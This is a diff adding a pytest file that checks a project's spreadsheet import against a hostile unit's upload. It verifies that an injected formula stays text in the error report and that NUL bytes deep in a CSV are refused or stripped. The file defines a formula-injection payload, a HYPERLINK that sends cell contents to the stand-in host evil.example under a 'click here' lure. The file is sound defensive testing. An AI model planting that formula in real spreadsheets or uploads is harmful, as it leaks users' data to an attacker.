@@ -1,0 +1,49 @@
+"""Attack: a hostile unit's spreadsheet (formula injection into the error report, NUL bytes in a CSV)."""
+
+from __future__ import annotations
+
+import io
+from typing import Any
+
+import pytest
+from openpyxl import load_workbook
+
+from sidms.exchange import imports
+from tests.exchange.conftest import HEADER, csv_bytes, id_number
+
+pytestmark = [pytest.mark.django_db, pytest.mark.req("B3"), pytest.mark.req("R6.2")]
+
+EVIL = '=HYPERLINK("http://evil.example/?"&B2&C2,"点此查看")'
+
+
+def test_a_formula_in_an_uploaded_header_is_text_in_the_error_report(importers: tuple[Any, Any]) -> None:
+    data = csv_bytes(
+        [[*HEADER, EVIL], ["李四", "3.71002E+17", "男", "1960-01-01", "employee", "371002", "", "x"]]
+    )
+    checked = imports.check_file(data, kind="persons", filename="名单.csv")
+    assert checked.errors()
+    sheet = load_workbook(io.BytesIO(checked.report())).active
+    assert sheet is not None
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == EVIL]
+    assert cells, "the uploaded header is in the report"
+    assert all(cell.data_type == "s" for cell in cells), "a formula from an uploaded file must stay text"
+
+
+def test_nul_bytes_deep_in_a_csv_are_refused_or_removed(importers: tuple[Any, Any]) -> None:
+    """Only the first 4 KB were checked for NUL; a NUL later reached the row values (PostgreSQL refuses
+    NUL in text: the import would fail with a server error at execution, or store a hidden character)."""
+    rows: list[list[Any]] = [HEADER]
+    rows += [["张三", id_number(n), "男", "1960-01-01", "employee", "371002", ""] for n in range(1, 120)]
+    rows.append(["王\x00五", id_number(200), "男", "1960-01-01", "employee", "371002", "1396310\x000001"])
+    data = csv_bytes(rows)
+    assert b"\x00" not in data[:4096]
+    try:
+        checked = imports.check_file(data, kind="persons", filename="名单.csv")
+    except Exception as error:  # refused as a whole: fine, as long as it is the typed refusal
+        from sidms.lib.sheets import SheetError
+
+        assert isinstance(error, SheetError)
+        return
+    values = [str(v) for result in checked.valid for v in result.values.values()]
+    assert any("五" in v for v in values) or checked.errors()
+    assert not [v for v in values if "\x00" in v]
